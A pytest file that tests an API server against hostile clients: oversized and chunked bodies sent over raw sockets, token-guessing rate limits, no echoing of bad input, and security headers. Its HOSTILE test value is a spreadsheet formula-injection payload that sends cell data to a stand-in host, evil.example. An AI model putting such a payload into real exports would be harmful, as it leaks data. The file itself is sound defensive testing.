"""Hostile clients of the HTTP API: bodies, guessed tokens, values echoed, headers, docs.

The body tests run a real ``pdl serve`` on 127.0.0.1 and talk to it over a raw socket,
so what is measured is what uvicorn reads, not what a test client would buffer.
"""

from __future__ import annotations

import os
import socket
import subprocess
import sys
import time
import warnings
from collections.abc import Iterator
from pathlib import Path
from urllib.parse import quote

import httpx
import pytest

from ledger.api.app import create_app
from ledger.api.auth import Tokens, parse_tokens
from ledger.api.gate import FAILED_AUTH_LIMIT, MAX_BODY_BYTES
from ledger.service.settings import Settings

with warnings.catch_warnings():  # starlette suggests httpx2; httpx is what FastAPI documents
    warnings.simplefilter("ignore")
    from fastapi.testclient import TestClient

DPO = "dpo-" + "d" * 20
HUGE = 150 * 1024 * 1024
HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"click")\x1b[2J\ncamille.martin@example.fr'


def free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return int(s.getsockname()[1])


def rss_kib(pid: int) -> int:
    for line in Path(f"/proc/{pid}/status").read_text().splitlines():
        if line.startswith("VmRSS:"):
            return int(line.split()[1])
    raise AssertionError("no VmRSS")


@pytest.fixture(scope="module")
def server(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[int, int]]:
    """A ``pdl serve`` subprocess: its port and pid."""
    data = tmp_path_factory.mktemp("serve") / "data"
    port = free_port()
    env = {**os.environ, "PDL_API_TOKENS": f"{DPO}=dpo"}
    env.pop("PDL_LOG", None)
    process = subprocess.Popen(
        [
            sys.executable,
            "-m",
            "ledger.cli.main",
            "--data-dir",
            str(data),
            "serve",
            "--port",
            str(port),
        ],
        env=env,
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
    )
    try:
        for _ in range(200):
            try:
                if httpx.get(f"http://127.0.0.1:{port}/health").status_code == 200:
                    break
            except httpx.TransportError:
                time.sleep(0.05)
        else:
            raise AssertionError("pdl serve did not start")
        yield port, process.pid
    finally:
        process.terminate()
        process.wait(10)


def request_head(path: str, headers: dict[str, str]) -> bytes:
    lines = [f"POST {path} HTTP/1.1", "Host: 127.0.0.1", "Content-Type: application/json"]
    lines += [f"{k}: {v}" for k, v in headers.items()]
    return ("\r\n".join(lines) + "\r\n\r\n").encode()


def status_of(answer: bytes) -> int:
    return int(answer.split(b" ", 2)[1])


def push_until_closed(port: int, head: bytes, total: int) -> tuple[int, int]:
    """Send ``head`` then up to ``total`` body bytes until the server stops taking them;
    the status it answered and how many body bytes went out before it closed."""
    sent = 0
    with socket.create_connection(("127.0.0.1", port)) as s:
        s.settimeout(10)
        s.sendall(head + b'{"identifier": "')
        chunk = b"x" * 65536
        s.settimeout(2)  # a send that blocks this long: the server is not reading
        try:
            while sent < total:
                sent += s.send(chunk)
        except (BrokenPipeError, ConnectionResetError, TimeoutError):
            pass
        s.settimeout(10)
        answer = s.recv(4096)
    return status_of(answer), sent


def test_a_150_mb_unauthenticated_body_is_refused_without_being_read(
    server: tuple[int, int],
) -> None:
    port, pid = server
    before = rss_kib(pid)
    head = request_head("/subjects/lookup", {"Content-Length": str(HUGE)})
    status, sent = push_until_closed(port, head, HUGE)
    grown_mib = (rss_kib(pid) - before) / 1024
    print(f"401 after {sent / 2**20:.1f} MiB sent of 150; server RSS grew {grown_mib:.1f} MiB")
    assert status == 401
    assert sent < HUGE / 10  # the server stopped taking it: kernel buffers, not the body
    assert grown_mib < 20


def test_a_declared_150_mb_body_with_a_token_is_413_before_reading(
    server: tuple[int, int],
) -> None:
    port, pid = server
    before = rss_kib(pid)
    head = request_head(
        "/subjects/lookup", {"Content-Length": str(HUGE), "Authorization": f"Bearer {DPO}"}
    )
    with socket.create_connection(("127.0.0.1", port)) as s:  # a few bytes, then wait
        s.settimeout(10)
        s.sendall(head + b'{"identifier"')
        assert status_of(s.recv(4096)) == 413
    status, sent = push_until_closed(port, head, HUGE)
    assert status == 413 and sent < HUGE / 10
    assert (rss_kib(pid) - before) / 1024 < 20


def test_a_chunked_body_is_cut_off_at_the_cap(server: tuple[int, int]) -> None:
    port, _ = server
    head = request_head(
        "/subjects/lookup", {"Transfer-Encoding": "chunked", "Authorization": f"Bearer {DPO}"}
    )
    with socket.create_connection(("127.0.0.1", port)) as s:
        s.settimeout(10)
        s.sendall(head)
        chunk = b"x" * 4096
        for _ in range(MAX_BODY_BYTES // len(chunk) + 2):
            s.sendall(b"%x\r\n%s\r\n" % (len(chunk), chunk))
        assert status_of(s.recv(4096)) == 413
    unauthenticated = request_head("/subjects/lookup", {"Transfer-Encoding": "chunked"})
    with socket.create_connection(("127.0.0.1", port)) as s:
        s.settimeout(10)
        s.sendall(unauthenticated + b"10\r\n")  # 16 bytes promised, none sent
        assert status_of(s.recv(4096)) == 401


@pytest.fixture
def client(tmp_path: Path) -> Iterator[TestClient]:
    tokens = Tokens(tuple(parse_tokens(f"{DPO}=dpo", "test")))
    with TestClient(create_app(Settings.from_environment(None, tmp_path / "d"), tokens)) as c:
        yield c


def test_failed_authentications_are_limited_per_address(client: TestClient) -> None:
    for _ in range(FAILED_AUTH_LIMIT):
        assert client.get("/metrics", headers={"Authorization": "Bearer guess"}).status_code == 401
    blocked = client.get("/metrics", headers={"Authorization": f"Bearer {DPO}"})
    assert blocked.status_code == 429 and int(blocked.headers["retry-after"]) > 0


def test_malformed_requests_never_echo_the_value(client: TestClient) -> None:
    auth = {"Authorization": f"Bearer {DPO}"}
    answers = [
        client.get("/reports/ropa", params={"at": HOSTILE}, headers=auth),
        client.get("/reports/ropa", params={"format": HOSTILE}, headers=auth),
        client.get("/reports/ropa", params={"known_at": HOSTILE}, headers=auth),
        client.get("/reports/access/" + quote(HOSTILE, safe=""), headers=auth),
        client.get("/reports/" + quote(HOSTILE, safe=""), headers=auth),
        client.post("/subjects/lookup", json={"identifier": HOSTILE * 20}, headers=auth),
        client.post("/subjects/lookup", json={"identifier": [HOSTILE]}, headers=auth),
        client.post("/subjects/lookup", json={HOSTILE: HOSTILE}, headers=auth),
        client.post("/subjects/lookup", content=HOSTILE.encode(), headers=auth),
    ]
    for got in answers:
        assert got.status_code in (404, 422), got.text
        for fragment in ("HYPERLINK", "camille", "evil", "\\u001b", "%3D"):
            assert fragment not in got.text, got.text


def test_every_answer_carries_the_security_headers(client: TestClient) -> None:
    for got in (
        client.get("/health"),
        client.get("/reports/ropa"),
        client.get("/docs"),
        client.get("/metrics", headers={"Authorization": f"Bearer {DPO}"}),
    ):
        assert got.headers["cache-control"] == "no-store"
        assert got.headers["x-content-type-options"] == "nosniff"
        csp = got.headers["content-security-policy"]
        assert "default-src 'none'" in csp and "script-src" not in csp


def test_the_docs_load_nothing_from_elsewhere(client: TestClient) -> None:
    page = client.get("/docs")
    assert page.status_code == 200 and "/reports/access/{subject}" in page.text
    for remote in ("<script", "http://", "https://", "cdn", "<form", "<input"):
        assert remote not in page.text.lower(), remote
    assert client.get("/redoc").status_code == 401  # no such page: nothing public but these
    assert client.get("/openapi.json").status_code == 200
